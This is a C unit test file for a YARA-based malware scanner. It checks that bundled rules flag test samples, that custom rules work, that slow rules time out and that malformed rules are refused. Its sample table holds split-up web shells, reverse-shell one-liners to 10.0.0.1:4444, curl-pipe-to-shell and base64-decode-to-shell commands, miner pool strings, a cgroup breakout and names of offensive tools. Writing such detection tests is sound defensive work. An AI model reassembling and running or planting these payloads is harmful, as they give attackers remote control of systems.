/* SPDX-License-Identifier: Apache-2.0 */
/* Samples are put together while the test runs: whole ones would make scanners find this file. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>

#include "base/cleanup.h"
#include "base/fd.h"
#include "base/str.h"
#include "vet/yara.h"

#include <fcntl.h>
#include <stdlib.h>
#include <string.h>

static char seen[1024];

static void note(void *arg, const struct yara_hit *hit)
{
	size_t n = strlen(seen);

	(void)arg;
	snprintf(seen + n, sizeof(seen) - n, "%s%s/%d", n ? " " : "", hit->rule, hit->level);
}

static struct yara *open_ours(bool words)
{
	_cleanup_free_ char *path = xasprintf("%s/data/vet-malware.yar", getenv("BRIG_SOURCE")), *text = NULL;
	struct error e = { 0 };
	struct yara *y;
	size_t n;

	assert_int_equal(file_read(AT_FDCWD, path, 1 << 20, &text, &n), 0);
	assert_int_equal(yara_new(&y, &e), 0);
	if (yara_add(y, text, n, "ours", &e) < 0 || yara_ready(y, 1, &e) < 0)
		fail_msg("%s", e.text);
	if (!words)
		yara_no_words(y);
	return y;
}

/* '~' is taken out of the samples. "ELF:" in front makes a program of it, "LIB:" a library, "MOD:" a kernel module. */
static char *sample(const char *text, size_t *n)
{
	bool elf = strncmp(text, "ELF:", 4) == 0, lib = strncmp(text, "LIB:", 4) == 0, mod = strncmp(text, "MOD:", 4) == 0;
	char *out = xcalloc(strlen(text) + 64, 1);

	*n = 0;
	if (elf || lib || mod) {
		memcpy(out, "\177ELF\2\1\1\0\0\0\0\0\0\0\0\0", 16);
		out[16] = elf ? 2 : lib ? 3 : 1;
		*n = 64;
		text += 4;
	}
	for (; *text; text++)
		if (*text != '~')
			out[(*n)++] = *text;
	return out;
}

static const struct {
	const char *rules, *path, *text;
} cases[] = {
	{ "miner_program/1", "usr/bin/x", "ELF:strat~um+tcp://  mining.~authorize" },
	{ "miner_program/1", "usr/bin/x", "ELF: donate-~level  RandomX" },
	{ "", "usr/bin/x", "ELF: random~x" },
	{ "miner_setting/1", "etc/c.json", "{\"url\": \"strat~um+ssl://pool.example.org:3333\"}" },
	{ "miner_setting/1", "etc/c.json", "{\"donate-~level\": 1, \"po~ols\": []}" },
	{ "miner_setting/1", "srv/run", "xm~rig -o pool:1 -u me" },
	{ "miner_pool/2", "srv/x", "gulf.~moneroocean.stream:10128" },
	{ "webshell_php/1", "srv/a.php", "<?php ev~al($_PO~ST['x']); ?>" },
	{ "webshell_php/1", "srv/a.php", "<?php sys~tem(base64_~decode($_GE~T['x'])); ?>" },
	{ "webshell_php/1", "srv/a.php", "<?php ev~al(gzinf~late(base64_~decode('abc'))); ?>" },
	{ "webshell_php/1", "srv/a.php", "<? $_GE~T['f']($_GE~T['a']);" },
	{ "", "srv/a.php", "<?php echo htmlspecialchars($_GET['x']); system('ls'); ?>" },
	{ "webshell_jsp/1", "srv/a.jsp", "<% Runtime.~getRuntime().exec(request.~getParameter(\"c\")); %>" },
	{ "webshell_asp/1", "srv/a.aspx", "<%@ Page Language=\"Jscript\"%><%ev~al(Request.Item[\"x\"],\"unsafe\");%>" },
	{ "reverse_shell/1", "srv/x", "bash -i >& /dev/t~cp/10.0.0.1/4444 0>~&1" },
	{ "reverse_shell/1", "srv/x", "#!/bin/sh\nnc 10.0.0.1 4444 -~e /bin/sh\n" },
	{ "reverse_shell/1", "srv/x", "#!/bin/sh\nnc -~c sh 10.0.0.1 4444\n" },
	{ "reverse_shell/1", "srv/x", "rm /tmp/f;mkf~ifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|n~c 10.0.0.1 4444 >/tmp/f" },
	{ "reverse_shell/1", "srv/x", "import socket,os,pty;s=socket.so~cket();s.connect((\"10.0.0.1\",4444));os.du~p2(s.fileno(),0);pty.spa~wn(\"sh\")" },
	{ "reverse_shell/1", "srv/x", "mkfifo /tmp/s; openssl s_cli~ent -quiet -connect h:1 | /bin/~sh" },
	{ "reverse_shell/1", "srv/x", "so~cat tcp-connect:h:1 exec:'ba~sh -li',pty,stderr" },
	{ "", "usr/share/x", "bash has /dev/tcp/HOST/PORT, and nc has -e" },
	{ "pipe_to_shell/2", "srv/x", "#!/bin/sh\ncurl -fsSL https://example.org/x | sh\n" },
	{ "", "srv/x", "#!/bin/sh\n# curl -fsSL https://example.org/x | sh\n" },
	{ "decode_to_shell/1", "srv/x", "echo aGk= | base64 ~-d | sh" },
	{ "decode_to_shell/1", "srv/x.py", "ex~ec(base64.~b64decode('aGk='))" },
	{ "", "srv/x.py", "text = base64.b64decode('aGk=')" },
	{ "tool_command_and_control/1", "srv/x", "ELF:github.com/bishop~fox/sliver" },
	{ "tool_tunnel/2", "srv/x", "ELF:github.com/jpil~lora/chisel/client" },
	{ "tool_break_out/1", "srv/x", "ELF:github.com/cdk-~team/CDK/pkg" },
	{ "tool_break_out/1", "srv/x", "#!/bin/sh\necho 1 >/x/notify_~on_release; echo /c >/x/release_~agent" },
	{ "tool_look_around/2", "srv/x", "#!/bin/sh\n# LinE~num by rebo~otuser" },
	{ "bot/1", "srv/x", "ELF:/bin/busybox MI~RAI listening ~tun0" },
	{ "rootkit_preload/1", "usr/lib/x.so", "LIB:read~dir64 dl~sym process_~to_filter" },
	{ "", "usr/bin/x", "ELF:readdir64 dlsym process_to_filter" },
	{ "rootkit_module/1", "lib/modules/x.ko", "MOD:vermag~ic=6.1 sys_~call_table getdents64" },
	{ "backdoor_bpfdoor/1", "srv/x", "ELF:/var/run/hald~rund.pid" },
	{ "eicar/1", "srv/x", "X5O!P%@AP~[4\\PZX54(P^)7CC)7}$EICAR" },
};

static void knows_its_samples(void **state)
{
	struct yara *with = open_ours(true), *without = open_ours(false);

	(void)state;
	for (size_t i = 0; i < ARRAY_SIZE(cases); i++) {
		size_t n;
		_cleanup_free_ char *data = sample(cases[i].text, &n);

		seen[0] = 0;
		assert_int_equal(yara_scan(with, 0, cases[i].path, data, n, note, NULL), 0);
		if (strcmp(seen, cases[i].rules) != 0)
			fail_msg("%s: \"%s\", not \"%s\"", cases[i].text, seen, cases[i].rules);
		/* The first pass has let through all that counts. */
		seen[0] = 0;
		assert_int_equal(yara_scan(without, 0, cases[i].path, data, n, note, NULL), 0);
		assert_string_equal(seen, cases[i].rules);
	}
	yara_free(with);
	yara_free(without);
}

static void takes_rules_of_others(void **state)
{
	static const char rules[] = "private rule small { condition: filesize < 100 }\n"
				    "rule mine { meta: level = \"low\" description = \"d\"\n"
				    "strings: $a = \"abc\" condition: $a and small and filename == \"x.sh\" and extension == \".sh\" and filepath == \"srv/x.sh\" }\n";
	struct error e = { 0 };
	struct yara *y;

	(void)state;
	assert_int_equal(yara_new(&y, &e), 0);
	assert_int_equal(yara_add(y, rules, strlen(rules), "mine.yar", &e), 0);
	assert_int_equal(yara_ready(y, 1, &e), 0);
	seen[0] = 0;
	assert_int_equal(yara_scan(y, 0, "srv/x.sh", "1 abc", 5, note, NULL), 0);
	assert_string_equal(seen, "mine/3");
	seen[0] = 0;
	assert_int_equal(yara_scan(y, 0, "srv/y.sh", "1 abc", 5, note, NULL), 0);
	assert_string_equal(seen, "");
	yara_free(y);
}

static void gives_up_slow_rules(void **state)
{
	/* One is slow whatever it is held against; the other one's rules go on. */
	static const char slow[] = "rule slow { condition: for all i in (0..4000000000) : (uint8(i % 4) < 255) }", quick[] = "rule quick { condition: true }";
	struct error e = { 0 };
	struct yara *y;
	size_t at = 0;

	(void)state;
	assert_int_equal(yara_new(&y, &e), 0);
	assert_int_equal(yara_add(y, slow, strlen(slow), "slow.yar", &e), 0);
	assert_int_equal(yara_add(y, quick, strlen(quick), "quick.yar", &e), 0);
	yara_limit(y, 1);
	assert_int_equal(yara_ready(y, 2, &e), 0);
	for (int i = 0; i < 3; i++) {
		at = 0;
		assert_null(yara_given_up(y, &at));
		seen[0] = 0;
		assert_int_equal(yara_scan(y, i & 1, "x", "abcd", 4, note, NULL), -ETIMEDOUT);
		assert_string_equal(seen, "quick/1");
	}
	at = 0;
	assert_string_equal(yara_given_up(y, &at), "slow.yar");
	assert_null(yara_given_up(y, &at));
	assert_int_equal(yara_scan(y, 0, "x", "abcd", 4, note, NULL), 0);
	yara_free(y);
}

static void limits_by_kind_and_size(void **state)
{
	static const char rules[] = "rule p { meta: words = \"abcd\" kind = \"program\" condition: true }\n"
				    "rule t { meta: words = \"wxyz\" kind = \"text\" largest = 6 condition: true }\n";
	static const struct {
		const char *data;
		bool asked;
	} tries[] = { { "\177ELFabcd", true }, { "abcd", false }, { "wxyz", true }, { "wxyz...", false }, { "\177ELFwx", false }, { "none", false } };
	struct error e = { 0 };
	struct yara *y;

	(void)state;
	assert_int_equal(yara_new(&y, &e), 0);
	assert_int_equal(yara_add(y, rules, strlen(rules), "r.yar", &e), 0);
	assert_int_equal(yara_ready(y, 1, &e), 0);
	for (size_t i = 0; i < ARRAY_SIZE(tries); i++) {
		seen[0] = 0;
		assert_int_equal(yara_scan(y, 0, "x", tries[i].data, strlen(tries[i].data), note, NULL), 0);
		assert_string_equal(seen, tries[i].asked ? "p/1 t/1" : "");
	}
	yara_free(y);
}

static void refuses_rules(void **state)
{
	static const struct {
		const char *text, *error;
	} bad[] = {
		{ "rule a {\n condition: fals }", "f.yar:2: undefined identifier \"fals\"" },
		{ "rule a {\n\n strings: $a = /(/ condition: $a }", "f.yar:3: " },
		{ "include \"/etc/passwd\"", "f.yar:1: " },
		{ "rule a { meta: level = \"bad\" condition: true }", "f.yar: rule a: level \"bad\" is none of " },
		{ "rule a { meta: words = \"abcd\" kind = \"script\" condition: true }", "f.yar: rule a: kind \"script\" is neither" },
		{ "rule a { meta: words = \"abc\" condition: true }", "f.yar: rule a: words: \"abc\" has not from 4 to 64 characters" },
	};

	(void)state;
	for (size_t i = 0; i < ARRAY_SIZE(bad); i++) {
		struct error e = { 0 };
		struct yara *y;

		assert_int_equal(yara_new(&y, &e), 0);
		assert_int_equal(yara_add(y, bad[i].text, strlen(bad[i].text), "f.yar", &e), -EINVAL);
		if (strncmp(e.text, bad[i].error, strlen(bad[i].error)) != 0)
			fail_msg("\"%s\", not \"%s\"", e.text, bad[i].error);
		yara_free(y);
	}
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(knows_its_samples),
		cmocka_unit_test(takes_rules_of_others),
		cmocka_unit_test(gives_up_slow_rules),
		cmocka_unit_test(limits_by_kind_and_size),
		cmocka_unit_test(refuses_rules),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
